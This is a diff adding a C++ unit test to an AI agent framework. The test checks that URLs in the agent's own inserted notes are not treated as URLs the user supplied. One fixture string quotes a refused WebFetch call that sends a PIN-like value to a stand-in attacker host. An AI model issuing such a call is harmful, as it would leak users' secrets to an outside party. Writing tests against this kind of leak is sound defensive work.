@@ -45,5 +45,36 @@ TEST(UserUrlsFrom, OnlyTheMessagesFromThereOnAreScannedAndTheCarriedOnesStay) {
   EXPECT_TRUE(all.count("https://new.example/b"));
 }
 
+// Issue 44, finding 6: mecha's own text in a user message (a ladder note quoting a refused
+// call, a compaction's summary) is not the user's, wherever it sits: none of its URLs is a
+// user URL, while the user's own text beside it still counts.
+TEST(UserUrlsFrom, MechasNotesAreNotTheUsersWords) {
+  auto c = providers::CassetteProvider::parse(
+      R"({"mecha_cassette": 1})"
+      "\n"
+      R"({"response": {"content": [{"type": "text", "text": "ok"}], "usage": {"input_tokens": 1, "output_tokens": 1}}})"
+      "\n",
+      "test.jsonl");
+  ASSERT_TRUE(c.ok()) << c.message();
+  Agent agent(AgentSpec{}, std::shared_ptr<providers::Provider>(std::move(*c)),
+              testing::loop_test_registry());
+  CancelToken cancel;
+  RunContext ctx;
+  ctx.work_tree = "/tmp";
+  ctx.cancel = &cancel;
+  Conversation conv;
+  conv.append(
+      Message::mecha_note("[mecha: compacted] the model fetched https://summary.example/x"));
+  conv.append(Message{Role::kAssistant, {ToolUseBlock{"t1", "Echo", Json{{"text", "x"}}, "", ""}}});
+  conv.append(Message{Role::kUser,
+                      {ToolResultBlock{"t1", "x https://result.example/", false},
+                       TextBlock{"[mecha: stuck-loop ladder] WebFetch "
+                                 "{\"url\":\"https://evil.example/?pin=4711\"} was called 3 times",
+                                 true},
+                       TextBlock{"go on with https://user.example/ok"}}});
+  EXPECT_EQ(agent.run(ctx, conv, nullptr).status, RunStatus::kCompleted);
+  EXPECT_EQ(ctx.user_urls, (std::set<std::string>{"https://user.example/ok"}));
+}
+
 }  // namespace
 }  // namespace mecha::agent
